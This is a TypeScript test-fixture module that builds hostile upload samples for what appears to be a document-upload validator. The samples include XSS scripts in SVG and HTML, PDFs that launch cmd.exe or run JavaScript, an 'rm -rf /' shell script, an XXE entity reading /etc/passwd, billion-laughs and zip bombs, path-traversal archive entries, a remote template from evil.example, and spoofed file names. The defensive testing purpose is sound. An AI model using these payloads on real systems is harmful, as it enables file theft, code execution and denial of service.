import { deflateRawSync, deflateSync } from 'node:zlib';
import { hostileFile as file } from './hostile-file.ts';
import { hostileEmbedded } from './hostile-embedded-files.ts';
import { activeOfficeFiles } from './hostile-office-files.ts';
import { polyglots } from './polyglots.ts';
import { type Packed, sampleFiles, zipOf } from './sample-files.ts';

const types: Packed = { name: '[Content_Types].xml', content: '<Types/>' };
const text: Packed = { name: 'word/document.xml', content: '<w:document/>' };
const sheet: Packed = { name: 'xl/workbook.xml', content: '<workbook/>' };

const docx = (...more: readonly Packed[]) => zipOf([types, text, ...more]);
const xlsx = (...more: readonly Packed[]) => zipOf([types, sheet, ...more]);
const pdf = (object: string) =>
  Buffer.from(`%PDF-1.7\n1 0 obj${object}endobj\ntrailer<<>>\n%%EOF\n`, 'latin1');

/** A PDF whose dangerous part lies in a packed object. */
function packedPdf(inner: string, head = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode'): Buffer {
  const packed = deflateSync(Buffer.from(inner, 'latin1'));
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<<${head}/Length ${packed.length}>>\nstream\n`, 'latin1'),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer<<>>\n%%EOF\n', 'latin1'),
  ]);
}

function png(width: number, height: number): Buffer {
  const bytes = Buffer.from(sampleFiles.png);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

/** A JPEG of so many points in its head, and none behind it. */
const jpeg = (side: number) =>
  Buffer.from([
    0xff,
    0xd8,
    0xff,
    0xc0,
    0,
    17,
    8,
    side >> 8,
    side & 255,
    side >> 8,
    side & 255,
    3,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0xff,
    0xd9,
  ]);

/** A HEIC that says so of its picture. */
function heic(side: number): Buffer {
  const box = Buffer.alloc(20);
  box.writeUInt32BE(20, 0);
  box.write('ispe', 4);
  box.writeUInt32BE(side, 12);
  box.writeUInt32BE(side, 16);
  return Buffer.concat([sampleFiles.heic, box]);
}

/** A TIFF of one page of so many points, with the place of the page after it. */
function tiff(side: number, next: number): Buffer {
  const bytes = Buffer.from(sampleFiles.tiff);
  bytes.writeUInt32LE(side, 18);
  bytes.writeUInt32LE(side, 30);
  bytes.writeUInt32LE(next, 34);
  return bytes;
}

/** The same width, in a number of eight bytes elsewhere, where the four that others read stand for something small. */
function tiffOfTwoReadings(): Buffer {
  const bytes = Buffer.concat([tiff(100_000, 0), Buffer.alloc(8)]);
  bytes.writeUInt16LE(16, 12);
  bytes.writeUInt32LE(38, 18);
  bytes.writeUInt32LE(100_000, 38);
  return bytes;
}

/** Parts that are each small enough to be believed, of some bytes as they say, and together of six hundred megabytes. */
function manySmallLies(): Buffer {
  const content = deflateRawSync(Buffer.alloc(60 * 1024 * 1024));
  return docx(
    ...Array.from({ length: 10 }, (_, index) => ({
      name: `word/media/${index}.bmp`,
      content,
      isPacked: true,
      claimsSize: 1000,
    })),
  );
}

/** Two files of one archive in the same place: however small the archive, each more of them unpacks once more. */
function overlapping(): Buffer {
  const bytes = docx({ name: 'word/media.xml', content: '<x/>'.repeat(1000) });
  bytes.writeUInt32LE(0, bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2])) + 42);
  return bytes;
}

const entity =
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>';
const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${'<!ENTITY b "&a;&a;&a;&a;">'.repeat(5)}]><l>&b;</l>`;
const external =
  '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>';

/** Every kind of file that must not be taken, made anew each time, by the refusal that it deserves. */
export const hostileFiles = {
  empty: [file('zero bytes', 'leer.pdf', '')],
  'unknown-kind': [
    file('a picture that is a script too', 'bild.gif', 'GIF89a=1;alert(1)//'),
    file('a page named as a PDF', 'bescheid.pdf', '<!doctype html><script>alert(1)</script>'),
    file('a page before a PDF', 'bescheid.pdf', Buffer.concat([Buffer.from('<html>'), sampleFiles.pdf])),
    file(
      'a drawing with a script',
      'logo.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    file('a drawing named as a picture', 'logo.png', '<svg onload="alert(1)"/>'),
    file('a program', 'rechnung.pdf', 'MZ\0\0'),
    file('a program of Linux', 'rechnung.pdf', '\x7fELF'),
    file('a shell script', 'rechnung.pdf', '#!/bin/sh\nrm -rf /\n'),
    file('a shortcut', 'rechnung.lnk', Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0])),
    file('an old Word file', 'brief.doc', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])),
    file(
      'an archive of other archives',
      'bombe.zip',
      zipOf([{ name: 'a.zip', content: zipOf([{ name: 'b', content: 'x' }]) }]),
    ),
    file('an archive of another kind', 'bombe.docx', Buffer.from([0x1f, 0x8b, 8, 0])),
    file('bytes of zero', 'leer.pdf', Buffer.alloc(5000)),
  ],
  damaged: [
    file('a PDF that is an archive too', 'a.pdf', Buffer.concat([sampleFiles.pdf, zipOf([types])])),
    file('a picture that is an archive too', 'a.jpg', Buffer.concat([sampleFiles.jpeg, zipOf([types])])),
    ...polyglots,
    ...hostileEmbedded.damaged,
    file('a PDF cut off', 'a.pdf', sampleFiles.pdf.subarray(0, 30)),
    file('a picture cut off', 'a.png', sampleFiles.png.subarray(0, -10)),
    file('a photo cut off among its points', 'a.jpg', sampleFiles.jpeg.subarray(0, -6)),
    file('a photo cut off before its end', 'a.jpg', sampleFiles.jpeg.subarray(0, -1)),
    file('a photo of a telephone cut off', 'a.heic', sampleFiles.heic.subarray(0, -5)),
    file('a TIFF of eight bytes', 'a.tif', sampleFiles.tiff.subarray(0, 8)),
    file('a TIFF cut off in its list of pages', 'a.tif', sampleFiles.tiff.subarray(0, -1)),
    file('a TIFF whose next page lies behind its end', 'a.tif', tiff(100_000, 9999)),
    file('a TIFF whose pages go round in a circle', 'a.tif', tiff(100_000, 8)),
    file('a TIFF of a size that each reads in its own way', 'a.tif', tiffOfTwoReadings()),
    file('a document cut off', 'a.docx', sampleFiles.docx.subarray(0, -5)),
    file(
      'a document with a page behind it',
      'a.docx',
      Buffer.concat([sampleFiles.docx, Buffer.from('<html>')]),
    ),
    file('files in one place', 'a.docx', overlapping()),
    file('a way out of the folder', 'a.docx', docx({ name: '../../etc/cron.d/x', content: 'x' })),
    file('a way from the root', 'a.docx', docx({ name: '/etc/passwd', content: 'x' })),
    file(
      'objects packed in an unusual way',
      'a.pdf',
      packedPdf('x', '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]'),
    ),
  ],
  macros: [
    file('a document with macros', 'a.docx', docx({ name: 'word/vbaProject.bin', content: 'x' })),
    file('a spreadsheet with macros', 'a.xlsx', xlsx({ name: 'xl/vbaProject.bin', content: 'x' })),
    file(
      'a spreadsheet with old macros',
      'a.xlsx',
      xlsx({ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }),
    ),
    ...hostileEmbedded.macros,
  ],
  'active-content': [
    file('a PDF with a script', 'a.pdf', pdf('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')),
    file('a PDF with a script written in digits', 'a.pdf', pdf('<</S/J#61vaScript>>')),
    file('a PDF that starts a program', 'a.pdf', pdf('<</S/Launch/F(cmd.exe)>>')),
    file('a PDF with a script in a film', 'a.pdf', pdf('<</S/Rendition/JS(app.alert\\(1\\))/OP 0>>')),
    file('a PDF that sends itself when it is opened', 'a.pdf', pdf('<</OpenAction<</S/SubmitForm>>>>')),
    file('a PDF with a file in it', 'a.pdf', pdf('<</Type/EmbeddedFile>>')),
    file('a PDF with a script in a packed object', 'a.pdf', packedPdf('1 0 <</S/JavaScript>>')),
    file('a PDF that starts a program from a packed object', 'a.pdf', packedPdf('1 0 <</S/Launch>>')),
    file('a PDF with a file in a packed object', 'a.pdf', packedPdf('1 0 <</EmbeddedFiles 2 0 R>>')),
    file(
      'a document that loads a template',
      'a.docx',
      docx({ name: 'word/_rels/settings.xml.rels', content: external }),
    ),
    file('a document with a program', 'a.docx', docx({ name: 'word/media/setup.exe', content: 'MZ' })),
    file(
      'a document with an archive in it',
      'a.docx',
      docx({ name: 'word/embeddings/bombe.zip', content: 'PK' }),
    ),
    file(
      'a document that reads a file of the machine',
      'a.docx',
      zipOf([types, { name: 'word/document.xml', content: entity }]),
    ),
    file(
      'a spreadsheet whose entities multiply',
      'a.xlsx',
      zipOf([types, { name: 'xl/workbook.xml', content: laughs }]),
    ),
    file(
      'the same behind a long remark',
      'a.docx',
      docx({ name: 'word/a.xml', content: `<!--${'x'.repeat(200_000)}-->${entity}` }),
    ),
    file(
      'the same in another encoding',
      'a.docx',
      docx({ name: 'word/a.xml', content: Buffer.from(`\ufeff${entity}`, 'utf16le') }),
    ),
    ...activeOfficeFiles,
    ...hostileEmbedded['active-content'],
  ],
  locked: [file('a locked PDF', 'a.pdf', pdf('<</Encrypt 5 0 R>>'))],
  'too-many-points': [
    file('a picture of four thousand million points', 'a.png', png(65_535, 65_535)),
    file('a picture of four hundred million points in few bytes', 'a.png', png(20_000, 20_000)),
    file('a photo of nine hundred million points', 'a.jpg', jpeg(30_000)),
    file('a scan of ten thousand million points', 'a.tif', tiff(100_000, 0)),
    file('a photo of a telephone of four hundred million points', 'a.heic', heic(20_000)),
  ],
  'unpacks-too-large': [
    file(
      'a bomb that says so',
      'a.docx',
      docx({ name: 'word/a.xml', content: '<a/>', claimsSize: 400 * 1024 * 1024 }),
    ),
    file(
      'a bomb that says it is small',
      'a.docx',
      docx({ name: 'word/media/a.bmp', content: Buffer.alloc(80 * 1024 * 1024), claimsSize: 1000 }),
    ),
    file('a bomb of many small parts that say they are smaller', 'a.docx', manySmallLies()),
    ...hostileEmbedded['unpacks-too-large'],
    file('a bomb in packed objects', 'a.pdf', packedPdf('x'.repeat(70 * 1024 * 1024))),
  ],
} as const;

/** Names that nobody should meet in a list or a folder, and what becomes of them. */
export const hostileNames: readonly (readonly [what: string, given: string, tidy: RegExp])[] = [
  ['three hundred characters', `${'ä'.repeat(300)}.pdf`, /^ä{100}\.pdf$/],
  ['control characters', 'a\u0000b\r\nc\u001b[31m.pdf', /^a b c \[31m\.pdf$/],
  ['writing turned round', 'rechnung\u202efdp.exe', /^rechnung fdp\.exe\.pdf$/],
  ['a way out of the folder', '../../etc/passwd', /^passwd\.pdf$/],
  ['a way of Windows', 'C:\\Windows\\win.ini', /^win\.ini\.pdf$/],
  ['a device of Windows', 'CON.pdf', /^_CON\.pdf$/],
  ['nothing', '', /^Datei\.pdf$/],
  ['dots', '...', /^Datei\.pdf$/],
  ['a second ending', 'rechnung.pdf.exe', /^rechnung\.pdf\.exe\.pdf$/],
  ['a page', '<script>alert(1)</script>.pdf', /^[^<>"]*\.pdf$/],
];
